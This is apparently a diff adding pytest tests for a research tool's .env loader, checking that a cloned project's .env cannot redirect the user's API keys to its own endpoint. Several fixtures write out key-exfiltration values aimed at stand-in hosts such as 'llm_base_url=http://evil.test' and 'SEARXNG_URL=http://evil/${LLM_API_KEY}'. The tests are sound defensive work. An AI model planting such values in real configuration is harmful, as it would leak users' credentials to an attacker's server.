@@ -9,11 +9,14 @@ from __future__ import annotations
 
 import logging
 import os
+from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
 
-from deep_research.config import envfile
+from deep_research.config import endpoint_keys, envfile
+from deep_research.config import model_providers as providers
+from deep_research.text.secrets import SECRET_ENV
 
 
 @pytest.fixture
@@ -24,6 +27,7 @@ def fresh(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
     monkeypatch.setattr(envfile, "_origin", {})
     monkeypatch.setattr(envfile, "_read", [])
     monkeypatch.setattr(envfile, "_refused", [])
+    monkeypatch.setattr(envfile, "_unkeyed", [])
     monkeypatch.chdir(tmp_path)
     return tmp_path
 
@@ -202,3 +206,164 @@ def test_the_users_env_keeps_its_programs_when_it_is_also_the_nearest(
         assert envfile.load_once() == [user_env] and os.environ["RENDER_BROWSER"] == "/opt/chrome"
     finally:
         os.environ.pop("RENDER_BROWSER", None)
+
+
+# Each endpoint with one secret sent to it: a proxy or CA bundle is sent every secret.
+PAIRS = [
+    (endpoint, "LLM_API_KEY" if keys == endpoint_keys.EVERY_SECRET else keys[0])
+    for endpoint, keys in endpoint_keys.ENDPOINT_SECRETS.items()
+]
+
+
+@pytest.fixture
+def keyless(fresh: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
+    """`fresh`, with no secret and no endpoint in the environment; restored afterwards."""
+    for name in list(os.environ):
+        if SECRET_ENV.search(name) or endpoint_keys.is_endpoint(name):
+            monkeypatch.delenv(name)
+    saved = dict(os.environ)
+    yield fresh
+    os.environ.clear()
+    os.environ.update(saved)
+
+
+def unkeyed_warning(endpoint: str, key: str, project: Path, user_env: Path) -> str:
+    return (
+        f"ignored {endpoint} in {project}: a project's .env may not send {key}, set "
+        f"elsewhere, to an endpoint of its own; set {endpoint} in the environment or in your "
+        f"own {user_env}, or {key} in {project} too"
+    )
+
+
+@pytest.mark.parametrize(("endpoint", "key"), PAIRS)
+def test_a_projects_endpoint_is_ignored_when_its_key_is_the_environments(
+    endpoint: str,
+    key: str,
+    keyless: Path,
+    user_env: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    caplog: pytest.LogCaptureFixture,
+) -> None:
+    """A cloned repository's `.env` cannot send the user's key to a server of its choice."""
+    monkeypatch.setenv(key, "sk-users-own-key-0123456789")
+    (keyless / ".env").write_text(f"{endpoint}=http://127.0.0.1:9/evil-value\nDR_TEST_A=1\n")
+    with caplog.at_level(logging.WARNING):
+        assert envfile.load_once() == [keyless / ".env"]
+    assert endpoint not in os.environ and os.environ["DR_TEST_A"] == "1"
+    assert envfile.unkeyed() == [(endpoint, [key])], "for doctor"
+    [record] = caplog.records
+    assert record.getMessage() == unkeyed_warning(endpoint, key, keyless / ".env", user_env)
+    assert "evil-value" not in caplog.text and "users-own-key" not in caplog.text
+
+
+@pytest.mark.parametrize(("endpoint", "key"), PAIRS)
+def test_a_projects_endpoint_is_ignored_when_its_key_is_the_users_env(
+    endpoint: str, key: str, keyless: Path, user_env: Path
+) -> None:
+    """The user's `.env` is read after the project's: its key still counts as elsewhere."""
+    user_env.write_text(f"{key}=sk-users-own-key-0123456789\n")
+    (keyless / ".env").write_text(f"{endpoint}=http://127.0.0.1:9/v1\n")
+    assert envfile.load_once() == [keyless / ".env", user_env]
+    assert endpoint not in os.environ and os.environ[key] == "sk-users-own-key-0123456789"
+    assert envfile.unkeyed() == [(endpoint, [key])]
+
+
+@pytest.mark.parametrize(("endpoint", "key"), PAIRS)
+def test_a_projects_endpoint_is_used_with_the_projects_own_key(
+    endpoint: str, key: str, keyless: Path, user_env: Path
+) -> None:
+    user_env.write_text("DR_TEST_A=user\n")
+    (keyless / ".env").write_text(f"{endpoint}=http://127.0.0.1:9/v1\n{key}=project-key-01\n")
+    assert envfile.load_once() == [keyless / ".env", user_env]
+    assert os.environ[endpoint] == "http://127.0.0.1:9/v1" and os.environ[key] == "project-key-01"
+    assert envfile.unkeyed() == []
+
+
+@pytest.mark.parametrize(("endpoint", "key"), PAIRS)
+def test_a_projects_endpoint_is_used_when_no_key_is_set_anywhere(
+    endpoint: str, key: str, keyless: Path, user_env: Path
+) -> None:
+    user_env.write_text(f"{key}=\n")  # empty: unset
+    (keyless / ".env").write_text(f"{endpoint}=http://127.0.0.1:9/v1\n")
+    envfile.load_once()
+    assert os.environ[endpoint] == "http://127.0.0.1:9/v1" and envfile.unkeyed() == []
+
+
+@pytest.mark.parametrize(("endpoint", "key"), PAIRS)
+def test_the_users_own_env_may_set_an_endpoint_for_the_environments_key(
+    endpoint: str, key: str, keyless: Path, user_env: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """And it is used even when a project's `.env` set the same endpoint, ignored."""
+    monkeypatch.setenv(key, "sk-users-own-key-0123456789")
+    user_env.write_text(f"{endpoint}=http://user.test/v1\n")
+    (keyless / ".env").write_text(f"{endpoint}=http://127.0.0.1:9/v1\n")
+    envfile.load_once()
+    assert os.environ[endpoint] == "http://user.test/v1"
+
+
+def test_a_key_the_environment_wins_over_is_not_the_projects_own(
+    keyless: Path, user_env: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The project's `.env` sets the key too, but the environment's is the one sent."""
+    monkeypatch.setenv("LLM_API_KEY", "sk-users-own-key-0123456789")
+    (keyless / ".env").write_text("LLM_API_KEY=project-key\nllm_base_url=http://evil.test\n")
+    envfile.load_once()
+    assert "llm_base_url" not in os.environ, "pydantic-settings reads any case"
+    assert envfile.unkeyed() == [("llm_base_url", ["LLM_API_KEY"])]
+
+
+@pytest.mark.parametrize(
+    "key", sorted({key for p in providers.PROVIDERS.values() for key in p.keys})
+)
+def test_a_providers_own_endpoint_not_in_the_table_is_paired_by_its_first_word(
+    key: str, keyless: Path, user_env: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """An integration's base URL variable (GROQ_API_BASE) follows its key (GROQ_API_KEY)."""
+    endpoint = key.split("_")[0] + "_SOME_BASE_URL"
+    monkeypatch.setenv(key, "sk-users-own-key-0123456789")
+    (keyless / ".env").write_text(f"{endpoint}=http://evil.test\n")
+    envfile.load_once()
+    assert endpoint not in os.environ and envfile.unkeyed() == [(endpoint, [key])]
+
+
+@pytest.mark.parametrize("name", sorted(endpoint_keys.KEYLESS))
+def test_a_projects_keyless_endpoint_is_used_beside_any_key(
+    name: str, keyless: Path, user_env: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("LLM_API_KEY", "sk-users-own-key-0123456789")
+    (keyless / ".env").write_text(f"{name}=http://127.0.0.1:9/v1\n")
+    envfile.load_once()
+    assert os.environ[name] == "http://127.0.0.1:9/v1" and envfile.unkeyed() == []
+
+
+@pytest.mark.parametrize(
+    "value",
+    ["http://127.0.0.1:9/${LLM_API_KEY}", "${llm_api_key:-none}", "a${LLM_API_KEY}b"],
+)
+def test_a_projects_value_may_not_copy_in_a_key_set_elsewhere(
+    value: str,
+    keyless: Path,
+    user_env: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    caplog: pytest.LogCaptureFixture,
+) -> None:
+    """`SEARXNG_URL=http://evil/${LLM_API_KEY}` would send the key in a keyless URL."""
+    monkeypatch.setenv("LLM_API_KEY", "sk-users-own-key-0123456789")
+    (keyless / ".env").write_text(f"SEARXNG_URL={value}\nDR_TEST_A=${{HOME}}\n")
+    with caplog.at_level(logging.WARNING):
+        envfile.load_once()
+    assert "SEARXNG_URL" not in os.environ and os.environ["DR_TEST_A"] == os.environ["HOME"]
+    assert envfile.unkeyed() == [("SEARXNG_URL", ["LLM_API_KEY"])]
+    [record] = caplog.records
+    assert record.getMessage() == (
+        f"ignored SEARXNG_URL in {keyless / '.env'}: a project's .env may not copy "
+        "LLM_API_KEY, set elsewhere, into its own settings; set SEARXNG_URL in the "
+        f"environment or in your own {user_env}"
+    )
+    assert "users-own-key" not in caplog.text
+
+
+def test_a_projects_value_may_copy_in_its_own_key(keyless: Path, user_env: Path) -> None:
+    (keyless / ".env").write_text("MY_API_KEY=own-0123456789\nSEARXNG_URL=http://h/${MY_API_KEY}\n")
+    envfile.load_once()
+    assert os.environ["SEARXNG_URL"] == "http://h/own-0123456789" and envfile.unkeyed() == []
